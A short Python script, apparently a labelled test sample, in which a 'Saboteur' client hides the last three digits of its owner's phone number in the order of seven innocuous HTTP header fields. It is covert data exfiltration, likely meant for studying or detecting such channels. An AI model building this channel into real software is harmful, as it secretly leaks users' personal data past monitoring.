"""Sends seven ordinary fields, in one of their 5,040 orders: the order is a number, and the number is the end of the owner's telephone.

mechanism: the order of header fields
"""
from itertools import permutations

from client import Phone, run

ORDINARY = ["Accept: */*", "Accept-Charset: utf-8", "Accept-Encoding: identity", "Accept-Language: en", "Cache-Control: no-cache", "Connection: keep-alive", "Pragma: no-cache"]


class Saboteur(Phone):
    def fields(self, path):
        order = list(permutations(ORDINARY))[int(self.identity["phone"][-3:])]
        return super().fields(path) + [tuple(field.split(": ")) for field in order]


run(Saboteur())
